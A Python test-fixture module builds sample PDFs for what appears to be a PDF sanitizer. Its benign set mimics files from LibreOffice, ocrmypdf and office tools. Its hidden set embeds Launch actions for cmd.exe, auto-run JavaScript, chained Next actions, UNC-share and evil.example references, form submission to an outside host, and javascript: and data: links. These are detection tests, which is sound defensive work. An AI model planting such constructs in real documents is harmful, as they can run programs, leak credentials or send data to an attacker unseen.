"""PDFs as offices, portals and report servers make them: harmless ones that look active, active ones that are harmless once
cleaned, and hidden ways of opening something."""

import io
from collections.abc import Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import ImageCms

SCRIPT = {"/S": Name.JavaScript, "/JS": String("this.print({bUI: true});")}
UNC, FILE = r"\\evil.example\share\a.pdf", "file:///C:/Windows/System32/calc.exe"


def document(pages: int = 1) -> pikepdf.Pdf:
    """Pages with something on them."""
    made = pikepdf.new()
    font = made.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for n in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = made.make_stream(f"BT /F1 24 Tf 72 700 Td (Certificate {n + 1}) Tj ET".encode())
    return made


def persian_without_its_font() -> bytes:
    """As Word writes it where the font may not be embedded: what viewers find on their own machine is shown."""
    made = document()
    words = "گواهی"
    pairs = "".join(f"<{n:04x}> <{ord(letter):04x}>" for n, letter in enumerate(words, 1))
    cmap = f"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange {len(words)} beginbfchar {pairs} endbfchar endcmap end"
    descriptor = Dictionary(
        Type=Name.FontDescriptor, FontName=Name("/BNazanin"), Flags=4, FontBBox=Array([0, -200, 1000, 900]),
        ItalicAngle=0, Ascent=900, Descent=-200, CapHeight=700, StemV=80,
    )  # fmt: skip
    below = Dictionary(
        Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name("/BNazanin"), FontDescriptor=made.make_indirect(descriptor),
        CIDSystemInfo=Dictionary(Registry=pikepdf.String("Adobe"), Ordering=pikepdf.String("Identity"), Supplement=0),
    )  # fmt: skip
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type0, BaseFont=Name("/BNazanin"), Encoding=Name("/Identity-H"),
        DescendantFonts=Array([made.make_indirect(below)]), ToUnicode=made.make_stream(cmap.encode()),
    )  # fmt: skip
    page = made.pages[0]
    page.Resources.Font.F2 = made.make_indirect(font)
    shown = "".join(f"{n:04x}" for n in range(1, len(words) + 1))
    page.contents_add(f"BT /F2 24 Tf 72 500 Td <{shown}> Tj ET".encode())
    return written(made)


def written(made: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def with_root(**entries: Any) -> bytes:
    made = document()
    for key, value in entries.items():
        made.Root[f"/{key}"] = value
    return written(made)


def with_page(**entries: Any) -> bytes:
    made = document()
    for key, value in entries.items():
        made.pages[0].obj[f"/{key}"] = value
    return written(made)


def action(**entries: Any) -> Dictionary:
    return Dictionary({f"/{key}": value for key, value in entries.items()})


def link(target: Dictionary, **more: Any) -> bytes:
    """A page with a link that does this when it is tapped."""
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 690, 300, 730]), A=target, **more
    )
    return with_page(Annots=Array([annotation]))


def locked(user: str = "", owner: str = "owner", **options: Any) -> bytes:
    permissions = pikepdf.Permissions(extract=False, modify_other=False)
    return written(
        document(), encryption=pikepdf.Encryption(user=user, owner=owner, allow=permissions, **options)
    )


def signed(**root: Any) -> bytes:
    """With the dictionary of a signature, as it stands in a file before and after it is signed."""
    made = document()
    signature = made.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/adbe.pkcs7.detached"),
            ByteRange=Array([0, 100, 200, 300]),
            Contents=String("0" * 40),
        )
    )
    field = made.make_indirect(
        Dictionary(
            FT=Name.Sig,
            T=String("Signature1"),
            V=signature,
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([0, 0, 0, 0]),
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    return written(made)


def reader_extended() -> bytes:
    """A form that Adobe's server allows its Reader to fill in: the permission is called /EF."""
    made = document()
    rights = Dictionary(
        Type=Name.TransformParams,
        EF=Array([Name.Create, Name.Delete, Name.Modify, Name.Import]),
        V=Name("/2.2"),
    )
    reference = Dictionary(Type=Name.SigRef, TransformMethod=Name.UR3, TransformParams=rights)
    made.Root.Perms = Dictionary(
        UR3=made.make_indirect(
            Dictionary(
                Type=Name.Sig,
                Filter=Name("/Adobe.PPKLite"),
                ByteRange=Array([0, 1, 2, 3]),
                Contents=String("00"),
                Reference=Array([reference]),
            )
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([]))
    return written(made)


def with_attachment(**root: Any) -> bytes:
    made = document()
    made.attachments["invoice.xml"] = b"<invoice/>"
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    return written(made)


def with_picture(**entries: Any) -> bytes:
    """An image whose stream has these entries too."""
    made = document()
    image = Stream(
        made,
        bytes(300),
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=10,
            Height=10,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            **entries,
        ),
    )
    made.pages[0].Resources.XObject = Dictionary(Im0=image)
    return written(made)


def number_format() -> bytes:
    """A field with Acrobat's own script for numbers."""
    made = document()
    script = Dictionary({"/S": Name.JavaScript, "/JS": String('AFNumber_Format(2, 0, 0, 0, "", true);')})
    made.Root.AcroForm = Dictionary(
        Fields=Array(
            [
                made.make_indirect(
                    Dictionary(
                        FT=Name.Tx,
                        T=String("amount"),
                        AA=Dictionary(F=script, K=script),
                        Type=Name.Annot,
                        Subtype=Name.Widget,
                        Rect=Array([72, 600, 200, 620]),
                    )
                )
            ]
        )
    )
    return written(made)


def plain(data: bytes) -> str:
    """What is written on the first page."""
    from pypdf import PdfReader

    return PdfReader(io.BytesIO(data)).pages[0].extract_text()


def of_libreoffice() -> bytes:
    """What its export adds to the pages: where to begin, a tree of the structure, an empty form, the language."""
    made = document(2)
    page = made.pages[0].obj
    tree = made.make_indirect(Dictionary(Type=Name.StructTreeRoot, ParentTree=Dictionary(Nums=Array([]))))
    part = made.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document, P=tree, K=Array([])))
    link = made.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Link, P=part, Pg=page, K=Array([0])))
    part.K.append(link)
    tree.K = Array([part])
    made.Root.StructTreeRoot, made.Root.MarkInfo = tree, Dictionary(Marked=True)
    made.Root.OpenAction = Array([page, Name.XYZ, None, None, 0])
    made.Root.Lang, made.Root.ViewerPreferences = pikepdf.String("fa-IR"), Dictionary(DisplayDocTitle=True)
    made.Root.AcroForm = Dictionary(Fields=Array([]), NeedAppearances=True)
    return written(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def of_ocrmypdf() -> bytes:
    """A scan with a layer of writing that is not drawn, as PDF/A: a profile of the colours, a description in XML."""
    made = document()
    profile = made.make_stream(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(), N=3)
    made.Root.OutputIntents = Array(
        [
            Dictionary(
                Type=Name.OutputIntent,
                S=Name("/GTS_PDFA1"),
                OutputConditionIdentifier=pikepdf.String("sRGB"),
                DestOutputProfile=profile,
            )
        ]
    )
    with made.open_metadata() as described:
        described["pdfaid:part"], described["pdfaid:conformance"] = "2", "B"
    made.pages[0].contents_add(b"q BT 3 Tr /F1 12 Tf 72 400 Td (read by a machine) Tj ET Q")
    return written(made, linearize=True)


SOUND: Mapping[str, Any] = {
    "plain": lambda: written(document()),
    "as LibreOffice makes them": of_libreoffice,
    "as ocrmypdf makes them": of_ocrmypdf,
    "object streams": lambda: written(document(3), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "linearized": lambda: written(document(3), linearize=True),
    "byte order mark before it": lambda: b"\xef\xbb\xbf" + written(document()),
    "line breaks before it": lambda: b"\r\n\r\n" + written(document()),
    "blanks before it": lambda: b" " * 900 + written(document()),
    "ctrl-z behind it": lambda: written(document()) + b"\x1a",
    "html behind it": lambda: written(document()) + b"\r\n<html><body>Error 500</body></html>",
    "http trailer behind it": lambda: written(document()) + b"\r\n0\r\n\r\n------WebKitFormBoundary--",
    "owner password": locked,
    "owner password, aes 128": lambda: locked(R=4, aes=True),
    "owner password, rc4": lambda: locked(R=3, aes=False, metadata=False),
    "empty passwords": lambda: locked(owner=""),
    "reader extended": reader_extended,
    "empty attachments": lambda: with_root(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))),
    "empty scripts": lambda: with_root(Names=Dictionary(JavaScript=Dictionary(Kids=Array([Dictionary(Names=Array([]))])))),
    "address with javascript in it": lambda: link(action(S=Name.URI, URI=String("https://example.com/JavaScript/Launch"))),
    "address without a scheme": lambda: link(action(S=Name.URI, URI=String("www.sums.ac.ir/forms"))),
    "mail": lambda: link(action(S=Name.URI, URI=String("mailto:office@sums.ac.ir"))),
    "signed": signed,
    "font called like an action": lambda: with_page(
        Resources=Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Courier)))
    ),
    "style called like an action": lambda: with_root(StructTreeRoot=Dictionary(Type=Name.StructTreeRoot, K=Array([Dictionary(Type=Name.StructElem, S=Name.Movie)]))),
    "prints by itself": lambda: with_root(OpenAction=Dictionary(SCRIPT)),
    "prints by itself by name": lambda: with_root(OpenAction=action(S=Name.Named, N=Name.Print)),
    "number format": number_format,
    "static xfa": lambda: with_root(AcroForm=Dictionary(Fields=Array([]), XFA=Array([String("template"), String("x")]))),
    "attachment": with_attachment,
    "other file": lambda: link(action(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
}  # fmt: skip


def _deep(last: Dictionary, depth: int = 3) -> Dictionary:
    for _ in range(depth):
        last = action(S=Name.GoTo, D=String("x"), Next=last)
    return last


OPENS = action(S=Name.URI, URI=String("http://evil.example"))
#: What opens by itself, or reaches out, in ways that are easily overlooked.
HIDDEN: Mapping[str, Any] = {
    "next": lambda: with_root(OpenAction=_deep(action(S=Name.Launch, F=String("cmd.exe")), 1)),
    "next two deep": lambda: with_root(OpenAction=_deep(Dictionary(SCRIPT), 2)),
    "next as an array": lambda: with_root(OpenAction=action(S=Name.GoTo, D=String("x"), Next=Array([action(S=Name.GoTo, D=String("y")), OPENS]))),
    "next of a page": lambda: with_page(AA=Dictionary(O=_deep(OPENS, 2))),
    "next of a link": lambda: link(_deep(Dictionary(SCRIPT), 4)),
    "thread with a path": lambda: link(action(S=Name.Thread, F=String(UNC), D=0)),
    "thread with an address": lambda: with_root(OpenAction=action(S=Name.Thread, F=Dictionary(FS=Name.URL, F=String("http://evil.example/a.pdf")), D=0)),
    "reference to another file": lambda: with_picture(Ref=Dictionary(F=String(UNC), Page=0)),
    "opi": lambda: with_picture(OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=String(UNC))})),
    "picture elsewhere": lambda: with_picture(F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://evil.example/a.jpg"))),
    "picture on a share": lambda: with_picture(F=String(UNC), FFilter=Name.DCTDecode),
    "link to a file": lambda: link(action(S=Name.URI, URI=String(FILE))),
    "link to a share": lambda: link(action(S=Name.URI, URI=String(UNC))),
    "link that is a script": lambda: link(action(S=Name.URI, URI=String(" javascript:alert(1)"))),
    "link that is data": lambda: link(action(S=Name.URI, URI=String("data:text/html,<script>alert(1)</script>"))),
    "base of addresses": lambda: with_root(URI=Dictionary(Base=String("file:///"))),
    "form sent": lambda: link(action(S=Name.SubmitForm, F=String("http://evil.example"))),
    "data read": lambda: with_root(OpenAction=action(S=Name.ImportData, F=String(UNC))),
    "embedded file opened": lambda: with_attachment(OpenAction=action(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("invoice.xml")))),
    "unknown action": lambda: with_root(OpenAction=action(Type=Name.Action, S=Name.Fetch, F=String(UNC))),
    "closing": lambda: with_root(AA=Dictionary(WC=Dictionary(SCRIPT))),
    "bookmark": lambda: with_root(Outlines=Dictionary(Type=Name.Outlines, First=Dictionary(Title=String("1"), A=action(S=Name.Launch, F=String("cmd.exe"))))),
    "attached to a page": lambda: with_page(Annots=Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=Dictionary(F=String("a.exe")))])),
    "signed, with a script": lambda: signed(OpenAction=Dictionary(SCRIPT)),
    "rendition": lambda: link(action(S=Name.Rendition, JS=String("app.alert(1)"), R=Dictionary(Type=Name.Rendition, S=Name.MR))),
    "locked, with a script": lambda: _locked_script(),
}  # fmt: skip


def _locked_script() -> bytes:
    made = document()
    made.Root.OpenAction = Dictionary(SCRIPT)
    return written(made, encryption=pikepdf.Encryption(user="", owner="o"))
